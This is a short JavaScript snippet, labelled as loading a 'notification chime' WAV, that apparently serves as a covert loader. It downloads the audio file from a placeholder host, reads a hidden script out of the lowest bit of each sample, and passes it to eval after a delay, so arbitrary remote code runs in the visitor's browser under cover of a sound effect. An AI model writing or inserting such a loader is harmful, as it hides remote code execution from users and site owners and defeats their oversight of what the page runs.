// corpus note: downloads a "notification chime" WAV, pulls the low bit of each 16-bit PCM sample into bytes and evals the assembled script
(function () {
  var CHIME = "https://media.notify-sounds.test/ui/chime-soft.wav";

  function findDataChunk(dv) {
    var off = 12; // after RIFF header
    while (off + 8 <= dv.byteLength) {
      var id = String.fromCharCode(dv.getUint8(off), dv.getUint8(off + 1), dv.getUint8(off + 2), dv.getUint8(off + 3));
      var size = dv.getUint32(off + 4, true);
      if (id === "data") return { start: off + 8, size: size };
      off += 8 + size + (size & 1);
    }
    return null;
  }

  function decodeSamples(dv, chunk) {
    var bytes = [], cur = 0, n = 0;
    for (var p = chunk.start; p + 1 < chunk.start + chunk.size; p += 2) {
      var sample = dv.getInt16(p, true);
      cur = (cur << 1) | (sample & 1);
      if (++n === 8) {
        if (cur === 0) break;
        bytes.push(cur);
        cur = 0; n = 0;
      }
    }
    return new TextDecoder("utf-8").decode(new Uint8Array(bytes));
  }

  var req = new XMLHttpRequest();
  req.open("GET", CHIME);
  req.responseType = "arraybuffer";
  req.onreadystatechange = function () {
    if (req.readyState !== 4 || req.status !== 200) return;
    var dv = new DataView(req.response);
    var chunk = findDataChunk(dv);
    if (!chunk) return;
    var code = decodeSamples(dv, chunk);
    if (/^\/\*\*\//.test(code)) eval(code);
  };
  setTimeout(function () { req.send(); }, 2500);
})();
